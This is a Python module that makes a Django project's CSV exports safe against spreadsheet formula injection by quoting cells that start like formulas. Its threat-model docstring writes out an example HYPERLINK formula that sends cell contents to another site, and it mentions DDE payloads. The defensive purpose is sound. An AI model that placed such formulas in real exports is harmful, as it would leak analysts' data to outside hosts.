"""CSV files that a spreadsheet opens as data, never as formulas.

Threat model: whoever can name something that reaches a download (a centre
or region name in the admin site, a study title, a text in an instrument
definition) writes ``=HYPERLINK("https://elsewhere/?"&A2, "Berlin")`` or a
DDE payload; an analyst opens the statistics CSV in a spreadsheet program,
which runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return before one) as a formula: it can send other cells to
another site or start a program. Every CSV forestall writes therefore goes
through ``writer``, which puts a single quote before such a text cell (the
OWASP advice; spreadsheets show the text, and a program reading the CSV
sees the quote and the text). Numbers, negative ones included, are left
alone, so the figures stay figures.

This module is the only place in forestall that makes a ``csv.writer``
(``tests/test_spreadsheet_cells.py`` reads the source to keep it so): a
new download or export that wrote its own would bypass the check.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Callable, Iterable
from typing import Any

from django.http import HttpRequest, HttpResponse

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_FIRST = frozenset(_FORMULA_START)
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as it may go into a CSV cell: a text a spreadsheet would run gets a quote."""
    if value is None or isinstance(value, int | float):
        return value
    text = str(value)
    if text.startswith(_FORMULA_START) and not _NUMBER.fullmatch(text):
        return "'" + text
    return value


def safe_row(row: Iterable[Any]) -> Any:
    """``row`` with every cell through ``safe_cell``; the row itself when no cell needs it.

    The research export writes millions of cells, nearly all of them numbers
    or plain codes: looking only at the first character of each text (and
    copying the row only when one could start a formula) keeps its cost to
    a few per cent of the plain ``csv.writer``.
    """
    if not isinstance(row, list | tuple):
        row = list(row)
    for value in row:
        kind = type(value)
        if kind is int or kind is float or value is None:
            continue
        if kind is not str or value[:1] in _FORMULA_FIRST:
            # A date, a lazy translation or a suspect text: the full check.
            return [safe_cell(cell) for cell in row]
    return row


class SafeWriter:
    """A ``csv.writer`` whose every cell has passed ``safe_cell``."""

    def __init__(self, handle: Any, **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        self._writer.writerows(safe_row(row) for row in rows)


def writer(handle: Any, **options: Any) -> SafeWriter:
    """Like ``csv.writer(handle, **options)``, for cells that no spreadsheet runs."""
    return SafeWriter(handle, **options)


# The byte order mark, first in a staff download: without it, Excel reads a
# UTF-8 CSV in the computer's old code page, and German captions and centre
# names arrive as "ZustÃ¤ndigkeit". Readers of CSV (Python's ``utf-8-sig``,
# LibreOffice, R with ``fileEncoding = "UTF-8-BOM"``) skip it.
BYTE_ORDER_MARK = "\ufeff"


def staff_download(
    request: HttpRequest, text: str, filename: str, *, handed_out: Callable[[], None]
) -> HttpResponse:
    """A CSV that a staff member opens in a spreadsheet: UTF-8 with its byte order mark.

    For the staff pages' downloads (statistics, reach results). The public
    open data and the research data files are for programs and stay without
    it, as their documentation says.

    ``handed_out`` records the download (its ``….export`` audit entry) and
    is called only when the file is handed out: a HEAD request (a link
    checker, a download manager asking for the size, a prefetch) gets the
    same headers and no file, and is not recorded as an export. Django runs
    the whole view for HEAD and drops the body only afterwards, so before
    this every HEAD wrote an export entry for a file nobody received.
    """
    body = (BYTE_ORDER_MARK + text).encode()
    if request.method == "HEAD":
        response = HttpResponse(content_type="text/csv; charset=utf-8")
        response["Content-Length"] = str(len(body))
    else:
        handed_out()
        response = HttpResponse(body, content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
